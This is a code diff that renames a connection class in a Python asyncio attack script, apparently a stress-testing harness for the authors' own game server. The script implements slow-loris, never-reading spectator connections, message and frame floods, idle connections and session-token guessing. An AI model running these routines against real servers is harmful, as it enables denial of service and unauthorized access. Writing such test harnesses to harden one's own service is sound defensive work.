@@ -55,7 +55,7 @@ class AttackCounts:
     bytes: int = 0
 
 
-class Line:
+class AttackerConnection:
     """Attacker's connection on a bare socket."""
 
     def __init__(self, plain: socket.socket, tally: AttackCounts) -> None:
@@ -102,7 +102,7 @@ def message(**content: object) -> bytes:
     return frame(msgpack.packb(content))
 
 
-async def loris(line: Line, host: str) -> None:
+async def loris(line: AttackerConnection, host: str) -> None:
     """Begin a handshake that never ends, or finish it and send no hello."""
     if next(numbers) % 2:
         await line.shake_hands(host)
@@ -113,7 +113,7 @@ async def loris(line: Line, host: str) -> None:
         await asyncio.sleep(DRIP_SECONDS)
 
 
-async def never_reading(line: Line, host: str) -> None:
+async def never_reading(line: AttackerConnection, host: str) -> None:
     """Request listings as a spectator, and read nothing."""
     await line.enter(host, "spectator")
     while True:
@@ -121,13 +121,13 @@ async def never_reading(line: Line, host: str) -> None:
         await asyncio.sleep(BROWSE_SECONDS)
 
 
-async def messages(line: Line, host: str) -> None:
+async def messages(line: AttackerConnection, host: str) -> None:
     """Send small messages as fast as possible."""
     await line.enter(host)
     await flood(line, message(type="ready", match="no such match") * BLOCK)
 
 
-async def frames(line: Line, host: str) -> None:
+async def frames(line: AttackerConnection, host: str) -> None:
     """Send tiny fragments or pings as fast as possible."""
     await line.enter(host)
     if next(numbers) % 2:
@@ -136,7 +136,7 @@ async def frames(line: Line, host: str) -> None:
     await flood(line, frame(b"", 0, 0) * BLOCK)
 
 
-async def flood(line: Line, block: bytes) -> None:
+async def flood(line: AttackerConnection, block: bytes) -> None:
     """Send a block repeatedly until the server closes the connection."""
     heard = asyncio.create_task(line.hear_all())
     try:
@@ -146,19 +146,19 @@ async def flood(line: Line, block: bytes) -> None:
         heard.cancel()
 
 
-async def connections(line: Line, _host: str) -> None:
+async def connections(line: AttackerConnection, _host: str) -> None:
     """Connect and send nothing."""
     await line.hear_all()
 
 
-async def guessing(line: Line, host: str) -> None:
+async def guessing(line: AttackerConnection, host: str) -> None:
     """Shake hands with a guessed token."""
     await line.shake_hands(host)
     await line.say(message(type="hello", name="victim", token=f"guess {next(numbers)}"))
     await line.hear()
 
 
-KINDS: dict[str, Callable[[Line, str], Awaitable[None]]] = {
+KINDS: dict[str, Callable[[AttackerConnection, str], Awaitable[None]]] = {
     "slow-loris": loris,
     "never-reading": never_reading,
     "messages": messages,
@@ -183,7 +183,7 @@ async def attack(kind: str, url: str, source: str, clients: int, seconds: float)
                 try:
                     async with asyncio.timeout(end - now):
                         await loop.sock_connect(plain, (address.hostname or "", address.port or 0))
-                        await KINDS[kind](Line(plain, tally), address.netloc)
+                        await KINDS[kind](AttackerConnection(plain, tally), address.netloc)
                 except TimeoutError:
                     tally.left += 1
                 except (OSError, EOFError):
